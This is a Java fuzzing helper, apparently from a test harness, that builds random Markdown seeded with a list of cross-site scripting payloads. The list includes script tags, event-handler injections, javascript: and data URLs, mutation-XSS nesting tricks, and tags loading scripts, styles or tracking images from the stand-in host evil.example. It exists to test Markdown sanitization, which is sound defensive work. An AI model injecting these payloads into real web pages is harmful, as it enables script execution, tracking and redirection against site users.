package org.gemmaarena.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Random Markdown with HTML in it, much of it meant to run: whatever runs sets {@code window.__hacked}. */
public final class Markdown {

    private static final String RUN = "window.__hacked=1";

    private static final List<String> PIECES = List.of(
            "<script>" + RUN + "</script>",
            "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
            "<img src=x onerror=" + RUN + ">",
            "<img/src='x'/onerror=\"" + RUN + "\">",
            "<svg><script>" + RUN + "</script></svg>",
            "<svg onload=" + RUN + "><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + RUN
                    + "&gt;\">",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=" + RUN
                    + " src>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
            "<iframe srcdoc=\"<script>parent." + RUN + "</script>\">",
            "<iframe src=javascript:" + RUN + ">",
            "<object data=javascript:" + RUN + "><embed src=javascript:" + RUN + ">",
            "<details open ontoggle=" + RUN + "><summary>s",
            "<a href=\"jav&#x09;ascript:" + RUN + "\">x</a>",
            "<a href=' javascript:" + RUN + "' autofocus onfocus=" + RUN + " tabindex=0>x",
            "[x](javascript:" + RUN + ")",
            "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oYWNrZWQ9MTwvc2NyaXB0Pg==)",
            "![x](javascript:" + RUN + " \"onerror=" + RUN + "\")",
            "![x](https://evil.example/track.png)",
            "<https://evil.example/\"onmouseover=" + RUN + ">",
            "<javascript:" + RUN + ">",
            "[r]: javascript:" + RUN + " \"t\"\n\n[r]",
            "<style>@import '//evil.example/a.css';*{background:url(//evil.example)}</style>",
            "<p style=\"background:url(javascript:" + RUN + ")\" class=\"panel\" id=main name=body>",
            "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
            "<template><script>" + RUN + "</script></template>",
            "<input autofocus onfocus=" + RUN + "><button formaction=javascript:" + RUN + ">",
            "<video src=x onerror=" + RUN + "><source onerror=" + RUN + ">",
            "<!--><img src=x onerror=" + RUN + ">-->",
            "<![CDATA[><img src=x onerror=" + RUN + ">]]>",
            "<x-y onclick=" + RUN + ">z</x-y>",
            "```html\" onmouseover=\"" + RUN + "\n<img src=x onerror=" + RUN + ">\n```",
            "~~~\u2028<script>\n" + RUN,
            "`<script>" + RUN + "</script>`",
            "| a | <img src=x onerror=" + RUN + "> |\n| --- | :-: |\n| [b](java\nscript:x) | `|` |",
            "> > > - 1. * <b",
            "***__~~**_",
            "&lt;script&gt;&#60;script&#62;&#x3c;",
            "\\<script>\\[x\\](y)",
            "- [x] <b>",
            "# <u>#",
            "\ud800\udfff\u0000\u202e",
            "</div></section></main></body></html>");

    private final Hostile hostile;
    private final RandomGenerator chance;

    public Markdown(RandomGenerator chance) {
        this.chance = chance;
        this.hostile = new Hostile(chance);
    }

    /** So many pieces, in lists, quotes and each other, and an end by which a page is known to have shown all. */
    public String of(int pieces, String end) {
        return Stream.generate(this::piece).limit(pieces).collect(Collectors.joining("\n\n")) + "\n\n" + end;
    }

    private String piece() {
        var piece = hostile.one(PIECES);
        return switch (chance.nextInt(6)) {
            case 0 -> ">".repeat(chance.nextInt(1, 6)) + " " + piece;
            case 1 -> "  ".repeat(chance.nextInt(6)) + "- " + piece;
            case 2 -> piece + hostile.one(PIECES);
            case 3 -> cut(piece) + cut(hostile.one(PIECES));
            case 4 -> hostile.mutated(piece);
            default -> piece;
        };
    }

    private String cut(String piece) {
        return piece.substring(0, chance.nextInt(piece.length()));
    }
}
